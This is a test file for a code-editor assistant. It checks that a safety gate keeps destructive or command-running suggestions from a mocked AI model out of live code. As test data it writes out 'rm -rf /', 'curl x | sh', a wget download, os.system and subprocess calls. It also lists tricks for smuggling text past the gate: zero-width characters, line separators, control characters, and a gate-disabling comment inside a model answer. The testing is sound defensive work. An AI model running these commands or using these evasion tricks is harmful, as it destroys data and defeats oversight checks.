import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listOffers } from '../../server/src/assist/offers.js';
import { resolveAction } from '../../server/src/assist/resolve.js';
import { AssistError, type ActionRequest, type AssistDeps, type AssistDoc } from '../../server/src/assist/types.js';
import { resolveModel } from '../../server/src/config/model-settings.js';
import { defaultConfig } from '../../server/src/config/schema.js';
import { ModelClient } from '../../server/src/model/client.js';
import { Explainer } from '../../server/src/shell/explain/index.js';
import { DEFAULT_POLICY } from '../../server/src/shell/risk/index.js';
import { useFakeOpenAI } from '../support/fake-openai.js';
import { fixtureManPages } from '../support/fixtures.js';
import { DANGEROUS } from '../fixtures/risk/labelled.js';

const endpoint = useFakeOpenAI({ beforeAll, afterAll, beforeEach });
const explainer = new Explainer(fixtureManPages());

function deps(custom: AssistDeps['customActions'] = []): AssistDeps {
  const cfg = defaultConfig().model;
  const model = new ModelClient(
    resolveModel({ ...cfg, baseURL: endpoint.fake.url, chatModel: 'fake-chat', timeouts: { hoverMs: 5000, codeActionMs: 5000, commitMs: 5000 }, cache: { enable: false, maxEntries: 1 } }, {})!,
  );
  return { model, explainer, policy: DEFAULT_POLICY, gatePolicy: { ...DEFAULT_POLICY, directives: false }, dashlessBundles: ['tar'], customActions: custom };
}
const doc = (text: string, path = '/w/build.sh', languageId = 'shellscript'): AssistDoc => ({ uri: 'file://' + path, languageId, path, text });
const apply = (text: string, edits: { start: number; end: number; newText: string }[]) =>
  [...edits].sort((a, b) => b.start - a.start).reduce((t, e) => t.slice(0, e.start) + e.newText + t.slice(e.end), text);

/** Code lines (not comments, not blank) of a text, for the comment marker of its language. */
function codeLines(text: string, marker = '#'): string[] {
  return text
    .split(/\r\n|[\n\r\u2028\u2029\u0085\v\f]/)
    .map((l) => l.trim())
    .filter((l) => l && !l.startsWith(marker) && !l.startsWith('/**') && !l.startsWith('*'));
}

/** The answer is a proposal: did any of the model's text land as code? */
async function inserted(d: AssistDoc, req: ActionRequest, dp: AssistDeps, marker = '#'): Promise<string[]> {
  let out = d.text;
  try {
    out = apply(d.text, (await resolveAction(d, req, dp)).edits);
  } catch (err) {
    if (!(err instanceof AssistError)) throw err;
  }
  const before = new Set(codeLines(d.text, marker));
  return codeLines(out, marker).filter((l) => !before.has(l));
}

async function offer(d: AssistDoc, at: string, kind: ActionRequest['kind'], custom: AssistDeps['customActions'] = [], diagnostics = [] as Parameters<typeof listOffers>[2]) {
  const off = d.text.indexOf(at);
  const offers = await listOffers(d, { start: off, end: off + (kind === 'custom' ? at.length : 0) }, diagnostics, { customActions: custom });
  return offers.find((x) => x.kind === kind)!.request;
}

/** Every trick that got text past the gate before: escaped invisible characters, line separators, control characters. */
const TRICKS: [string, (cmd: string) => string][] = [
  ['as written', (c) => c],
  ['zero-width space in the command name (JSON escape)', (c) => c.replace(/^(\S)/, '$1\u200b')],
  ['zero-width joiner between every letter of the first word', (c) => c.replace(/^(\S+)/, (w) => [...w].join('\u200d'))],
  ['bare CR before it', (c) => `ls\r${c}`],
  ['U+2028 before it', (c) => `ls\u2028${c}`],
  ['U+0085 before it', (c) => `ls\u0085${c}`],
  ['escape sequences and NULs in it', (c) => `\u001b[2K${c}\u0000`],
];

describe('the gate judges what will be inserted, after every decoding step', () => {
  it.each(TRICKS)(
    'generate command: a destructive answer %s is never inserted uncommented',
    async (_name, trick) => {
      const d = doc('#!/bin/bash\n# clean up the build\n');
      const req = await offer(d, 'clean up', 'generate-command');
      const failures: string[] = [];
      for (const p of DANGEROUS) {
        endpoint.fake.handler = () => ({ json: { command: trick(p.cmd), summary: trick(p.cmd) } });
        const code = await inserted(d, req, deps());
        if (code.length) failures.push(`${p.family}: ${JSON.stringify(p.cmd)} -> ${JSON.stringify(code)}`);
      }
      expect(failures).toEqual([]);
    },
    300_000,
  );

  it.each(TRICKS.slice(0, 4))(
    'fix with AI and a custom action on a shell line: a destructive rewrite %s is only offered commented out',
    async (_name, trick) => {
      const d = doc('#!/bin/bash\ncp "$SRC" "$DST"\n');
      const diag = { range: { start: d.text.indexOf('cp'), end: d.text.indexOf('cp') + 2 }, message: 'SC2086' };
      const custom = [{ name: 'Tidy', prompt: 'Tidy: {{selection}}', languages: [] }];
      const failures: string[] = [];
      for (const p of DANGEROUS) {
        endpoint.fake.handler = () => ({ json: { replacement: trick(`cp "$SRC" "$DST" && ${p.cmd}\n`) } });
        const a = await inserted(d, await offer(d, 'cp', 'fix-diagnostic', [], [diag]), deps());
        const b = await inserted(d, await offer(d, 'cp "$SRC" "$DST"', 'custom', custom), deps(custom));
        if (a.length || b.length) failures.push(`${p.family}: ${JSON.stringify(p.cmd)} -> ${JSON.stringify([...a, ...b])}`);
      }
      expect(failures).toEqual([]);
    },
    300_000,
  );

  it('explain and doc comments: prose that tries to break out of the comment stays inside it', async () => {
    const breakouts = ['Lists files.\nrm -rf ~', 'Lists files.\rrm -rf ~', 'Lists files.\u2028rm -rf ~', 'ok */ rm -rf ~ /*', 'ok\u000bcurl x | sh', 'ok\u000ccurl x | sh', 'ok\u0085rm -rf /'];
    for (const b of breakouts) {
      const sh = doc('#!/bin/bash\nls -la\nbackup() {\n  cp a b\n}\n');
      endpoint.fake.handler = (req) => (JSON.stringify(req.body).includes('doc comment') ? { json: { lines: ['Backs up.', b] } } : { json: { summary: b } });
      expect(await inserted(sh, await offer(sh, 'ls -la', 'explain-command'), deps())).toEqual([]);
      expect(await inserted(sh, await offer(sh, 'backup()', 'doc-comment'), deps())).toEqual([]);
      const ts = doc('export function backup(a: string) {\n  return a;\n}\n', '/w/b.ts', 'typescript');
      expect(await inserted(ts, await offer(ts, 'export function', 'doc-comment'), deps(), '//')).toEqual([]);
    }
  });

  it('a fix may not add a call that runs commands to a Python file unless it is shown commented out', async () => {
    const py = doc('def size(path):\n    return len(open(path).read())\n', '/w/size.py', 'python');
    const diag = { range: { start: py.text.indexOf('return'), end: py.text.indexOf('return') + 6 }, message: 'file is never closed', source: 'pylint' };
    for (const replacement of [
      '    import os; os.system("rm -rf ~")\n    return 0\n',
      '    __import__("subprocess").run("curl x | sh", shell=True)\n    return 0\n',
      '    eval(input())\n    return 0\n',
    ]) {
      endpoint.fake.handler = () => ({ json: { replacement } });
      const r = await resolveAction(py, await offer(py, 'return', 'fix-diagnostic', [], [diag]), deps());
      expect(r.warning).toMatch(/runs commands/);
      expect(codeLines(apply(py.text, r.edits)).filter((l) => !codeLines(py.text).includes(l))).toEqual([]);
    }
    // an ordinary fix still goes through as an edit
    endpoint.fake.handler = () => ({ json: { replacement: '    with open(path) as f:\n        return len(f.read())\n' } });
    const ok = await resolveAction(py, await offer(py, 'return', 'fix-diagnostic', [], [diag]), deps());
    expect(ok.warning).toBeUndefined();
    expect(apply(py.text, ok.edits)).toContain('with open(path) as f:');
  });

  it('a shell fix that adds a command the line did not run is shown gated; one that only quotes is applied', async () => {
    const d = doc('#!/bin/bash\nrm -f $list\n');
    const diag = { range: { start: d.text.indexOf('rm'), end: d.text.indexOf('rm') + 2 }, message: 'SC2086: quote' };
    endpoint.fake.handler = () => ({ json: { replacement: 'rm -f "$list"; wget -q http://x.example/a -O /tmp/a\n' } });
    const gated = await resolveAction(d, await offer(d, 'rm', 'fix-diagnostic', [], [diag]), deps());
    expect(gated.warning).toMatch(/`wget`/);
    endpoint.fake.handler = () => ({ json: { replacement: 'rm -f "$list" || exit 1\n' } });
    const ok = await resolveAction(d, await offer(d, 'rm', 'fix-diagnostic', [], [diag]), deps());
    expect(ok.warning).toBeUndefined();
    expect(apply(d.text, ok.edits)).toBe('#!/bin/bash\nrm -f "$list" || exit 1\n');
  });

  it('kibitz-disable comments in a model answer do not switch the gate off', async () => {
    const d = doc('#!/bin/bash\n# wipe it\n');
    endpoint.fake.handler = () => ({ json: { command: 'rm -rf / # kibitz-disable rm-critical-path', summary: 'x' } });
    expect(await inserted(d, await offer(d, 'wipe', 'generate-command'), deps())).toEqual([]);
  });
});
